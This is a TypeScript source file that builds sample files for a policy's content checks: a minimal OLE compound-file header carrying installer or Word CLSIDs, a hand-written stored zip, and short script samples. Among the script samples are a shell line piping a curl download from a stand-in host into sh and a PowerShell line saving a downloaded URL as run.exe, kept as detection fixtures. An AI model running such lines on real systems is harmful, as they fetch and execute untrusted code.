import { crc32 } from 'node:zlib';
import { sampleBytes } from './sampleBytes.ts';

const { ascii, concat } = sampleBytes;

/**
 * Sample files for the policy's content checks (installers, scripts, archives), generated from scratch.
 * Kept apart from samples.ts so the demo's policy files and the tests share one generator of them.
 */

/** The CLSID of a Windows Installer package's root storage. */
export const MSI_CLSID = '{000C1084-0000-0000-C000-000000000046}';
/** The CLSID of a Word 97–2003 document's root storage. */
export const WORD_CLSID = '{00020906-0000-0000-C000-000000000046}';

/** A GUID `{…}` as the 16 bytes stored on disk (first three fields little-endian). */
const guidBytes = (guid: string): Uint8Array => {
  const hex = guid.replace(/[{}-]/g, '');
  const bytes = Uint8Array.from({ length: 16 }, (_, i) => Number.parseInt(hex.slice(i * 2, i * 2 + 2), 16));
  bytes.subarray(0, 4).reverse();
  bytes.subarray(4, 6).reverse();
  bytes.subarray(6, 8).reverse();
  return bytes;
};

/**
 * A minimal compound file (version 3, 512-byte sectors) whose root storage carries `clsid`: the header,
 * one FAT sector, and the directory in sector `directorySector` (the header's offset 0x30 points there).
 * Enough for a sniffer, not for Windows Installer.
 */
export const compoundFile = (clsid: string, { directorySector = 1, seed = 0 } = {}): Uint8Array => {
  const sector = 512;
  const sectors = directorySector + 1;
  const bytes = new Uint8Array(sector * (sectors + 1));
  const view = new DataView(bytes.buffer);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  view.setUint16(0x18, 0x3e, true); // minor version
  view.setUint16(0x1a, 3, true); // major version 3: 512-byte sectors
  view.setUint16(0x1c, 0xfffe, true); // byte order mark
  view.setUint16(0x1e, 9, true); // sector shift: 2^9
  view.setUint16(0x20, 6, true); // mini sector shift
  view.setUint32(0x2c, 1, true); // one FAT sector
  view.setUint32(0x30, directorySector, true); // first directory sector
  view.setUint32(0x38, 0x1000, true); // mini stream cutoff
  view.setUint32(0x3c, 0xfffffffe, true); // no mini FAT
  view.setUint32(0x44, 0xfffffffe, true); // no DIFAT sectors
  view.setUint32(0x4c, 0, true); // the FAT is sector 0
  for (let i = 1; i < 109; i += 1) view.setUint32(0x4c + i * 4, 0xffffffff, true);
  // FAT (sector 0): itself, filler sectors, the directory's end of chain.
  const fat = sector;
  view.setUint32(fat, 0xfffffffd, true);
  for (let s = 1; s < sectors; s += 1) view.setUint32(fat + s * 4, 0xfffffffe, true);
  for (let s = sectors; s < 128; s += 1) view.setUint32(fat + s * 4, 0xffffffff, true);
  // Root entry at the start of the directory sector.
  const root = (directorySector + 1) * sector;
  const name = 'Root Entry';
  for (let i = 0; i < name.length; i += 1) view.setUint16(root + i * 2, name.charCodeAt(i), true);
  view.setUint16(root + 0x40, (name.length + 1) * 2, true);
  bytes[root + 0x42] = 5; // root storage
  bytes[root + 0x43] = 1; // black
  view.setUint32(root + 0x44, 0xffffffff, true);
  view.setUint32(root + 0x48, 0xffffffff, true);
  view.setUint32(root + 0x4c, 0xffffffff, true);
  bytes.set(guidBytes(clsid), root + 0x50);
  view.setUint32(root + 0x74, 0xfffffffe, true); // no mini stream
  view.setUint32(root + 0x70, seed, true); // varies the content between samples (modified time)
  return bytes;
};

/** Script samples by kind: what file-type reports nothing for, but is code that runs when opened. */
export const SCRIPT_SAMPLES = {
  sh: '#!/bin/sh\nset -e\ncurl -s https://example.invalid/x | sh\n',
  py: '#!/usr/bin/env python3\nimport os\nos.system("id")\n',
  bat: '@echo off\r\nsetlocal\r\ncopy %~dp0payload.exe %TEMP%\r\n',
  ps1: '[CmdletBinding()]\nparam([string]$Url)\nInvoke-WebRequest -Uri $Url -OutFile run.exe\n',
  vbs: 'Option Explicit\r\nDim shell\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n',
  hta: '<html>\n<head>\n<hta:application id="app" />\n<script language="VBScript">Window.Close</script>\n</head>\n</html>\n',
} as const;

/** The script kinds {@link SCRIPT_SAMPLES} holds. */
export type ScriptSample = keyof typeof SCRIPT_SAMPLES;

/** One script sample's bytes. */
export const scriptFile = (kind: ScriptSample): Uint8Array => ascii(SCRIPT_SAMPLES[kind]);

const u16 = (n: number) => Uint8Array.of(n & 0xff, (n >>> 8) & 0xff);
const u32 = (n: number) => Uint8Array.of(n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff);

/**
 * A zip of stored (uncompressed) entries, written by hand: the demo runs in the CLI, which does not ship
 * a zip library (the tests build theirs with fflate).
 */
export const storedZip = (entries: readonly { readonly name: string; readonly data: Uint8Array }[]) => {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = ascii(entry.name);
    const crc = crc32(entry.data) >>> 0;
    const common = concat(
      u16(0), // flags
      u16(0), // stored
      u16(0), // time
      u16(0x21), // date 1980-01-01
      u32(crc),
      u32(entry.data.length),
      u32(entry.data.length),
      u16(name.length),
      u16(0),
    );
    const local = concat(u32(0x04034b50), u16(10), common, name, entry.data);
    centrals.push(
      concat(u32(0x02014b50), u16(20), u16(10), common, u16(0), u16(0), u16(0), u32(0), u32(offset), name),
    );
    locals.push(local);
    offset += local.length;
  }
  const directory = concat(...centrals);
  const end = concat(
    u32(0x06054b50),
    u16(0),
    u16(0),
    u16(entries.length),
    u16(entries.length),
    u32(directory.length),
    u32(offset),
    u16(0),
  );
  return concat(...locals, directory, end);
};
